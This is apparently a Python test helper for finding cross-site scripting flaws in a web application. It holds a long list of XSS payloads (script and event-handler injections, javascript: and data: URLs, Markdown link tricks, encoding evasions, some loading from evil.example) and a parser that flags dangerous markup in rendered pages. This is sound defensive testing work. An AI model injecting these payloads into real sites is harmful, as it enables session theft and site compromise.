"""What an attacker types into fields, and a reading of the answer that knows nothing of how our pages are made.

The payloads stand for classes: breaking out of text, of attributes and of code; elements and handlers that run; URL
schemes; encodings; Markdown that turns into HTML; and what parsers of HTML repair into something else.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

MARK = "xss9137"
"""In every payload: a script that ran would say it."""

PAYLOADS = (
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"<script>/*{MARK}*/",
    f"</script><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</style><script>alert('{MARK}')</script>",
    f"</noscript><img src=x onerror=alert('{MARK}')>",
    f"--><img src=x onerror=alert('{MARK}')>",
    f"]]><img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=\"alert('{MARK}')\"",
    f"<img/src=x/onerror=alert`{MARK}`>",
    f"<image src=x onerror=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:alert('{MARK}')\"><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>alert('{MARK}')</script>\"></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')></style></table></mtext></math>",
    f"<math href=\"javascript:alert('{MARK}')\">x</math>",
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.alert('{MARK}')</script>\"></iframe>",
    f"<object data=\"javascript:alert('{MARK}')\"></object>",
    f"<embed src=\"javascript:alert('{MARK}')\">",
    f'<base href="//evil.example/{MARK}/">',
    f'<link rel=stylesheet href="//evil.example/{MARK}.css">',
    f"<meta http-equiv=refresh content=\"0;url=javascript:alert('{MARK}')\">",
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">x</div>",
    f"<body onload=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>x</details>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<audio src=x onerror=alert('{MARK}')>",
    f"<marquee onstart=alert('{MARK}')>x</marquee>",
    f"<form action=\"javascript:alert('{MARK}')\"><button>x</button></form>",
    f"<button formaction=\"javascript:alert('{MARK}')\">x</button>",
    f"<a href=\"javascript:alert('{MARK}')\">x</a>",
    f"<a href=\"&#106;avascript:alert('{MARK}')\">x</a>",
    f"<a href=\"java\tscript:alert('{MARK}')\">x</a>",
    f"<a href=\"\x01javascript:alert('{MARK}')\">x</a>",
    f"<a href=\"data:text/html,<script>alert('{MARK}')</script>\">x</a>",
    f"<div hx-on:load=\"alert('{MARK}')\" hx-get=/ hx-trigger=load>x</div>",
    f"<div data-hx-on--load=\"alert('{MARK}')\">x</div>",
    f"<template><script>alert('{MARK}')</script></template>",
    f"<xss onpointerrawupdate=alert('{MARK}') tabindex=1>x</xss>",
    f"\" autofocus onfocus=\"alert('{MARK}')",
    f"' autofocus onfocus='alert(\"{MARK}\")",
    f"` autofocus onfocus=alert`{MARK}`",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><img src=x onerror=alert('{MARK}')>",
    f"javascript:alert('{MARK}')",
    f"[x](javascript:alert('{MARK}'))",
    f"[x](JaVaScRiPt:alert%28'{MARK}'%29)",
    f"[x](&#x6A;avascript:alert('{MARK}'))",
    f"[x](java&Tab;script:alert('{MARK}'))",
    f"[x](\\javascript:alert('{MARK}'))",
    f"[x](<javascript:alert('{MARK}')>)",
    f"[x](data:text/html;base64,{MARK}PHNjcmlwdD4=)",
    f"[x](vbscript:msgbox('{MARK}'))",
    f"[x](//evil.example/{MARK})",
    f"[x](https://evil.example/\"onmouseover=\"alert('{MARK}'))",
    f'[x](https://evil.example/ "{MARK}" onmouseover=alert(1) x=")',
    f"[x]: javascript:alert('{MARK}')\n\n[x]",
    f'![{MARK}](x "onerror=alert(1)")',
    f"![{MARK}](javascript:alert(1))",
    f"<javascript:alert('{MARK}')>",
    f'<https://evil.example/{MARK}"onmouseover="alert(1)>',
    f"`<img src=x onerror=alert('{MARK}')>`",
    f"```\"onload=alert('{MARK}')\n</code></pre><script>alert('{MARK}')</script>\n```",
    f"    </code></pre><img src=x onerror=alert('{MARK}')>",
    f"{{{{ '{MARK}'.__class__.__mro__ }}}}{{% print('{MARK}') %}}",
    f"\uff1cscript\uff1ealert('{MARK}')\uff1c/script\uff1e",
    f"+ADw-script+AD4-alert('{MARK}')+ADw-/script+AD4-",
    f"\u202e<script>alert('{MARK}')</script>\u202c",
)

LIVE_ELEMENTS = frozenset(
    [
        "animate",
        "applet",
        "audio",
        "base",
        "embed",
        "foreignobject",
        "frame",
        "frameset",
        "iframe",
        "marquee",
        "math",
        "mglyph",
        "object",
        "portal",
        "source",
        "style",
        "template",
        "video",
        "xss",
    ]
)
"""Elements that none of our pages has, and that readers must not be able to bring in."""

ADDRESSES = ("action", "background", "cite", "data", "formaction", "href", "poster", "src", "srcset", "xlink:href")
SCHEMES = {"", "http", "https"}


class Reading(HTMLParser):
    """What in a page could run, or lead a reader to what runs."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        here = f"<{tag} {given}>"
        if tag in LIVE_ELEMENTS:
            self.dangers.append(here)
        if tag in ("script", "img", "image", "link"):
            source = given.get("src") or given.get("href") or ""
            if MARK in str(given) or not source.startswith("/") or source.startswith("//"):
                self.dangers.append(here)
        for name, value in given.items():
            if name.startswith(("on", "hx-on", "data-hx-on")) or name in ("style", "srcdoc"):
                self.dangers.append(here)
            if name.startswith(("hx-", "data-hx-")) and MARK in value:
                self.dangers.append(here)
            if name in ADDRESSES and not harmless(value):
                self.dangers.append(here)
            if tag == "meta" and name == "http-equiv" and MARK in str(given):
                self.dangers.append(here)


def harmless(address: str) -> bool:
    """Whether an address leads to a page, as browsers read it: without control characters and spaces around it."""
    seen = "".join(character for character in address if character > " " and character != "\x7f")
    try:
        return urlsplit(seen).scheme.lower() in SCHEMES
    except ValueError:
        return False


def dangers(page: str) -> list[str]:
    """Return what in a page could run; empty for a safe one."""
    return Reading(page).dangers
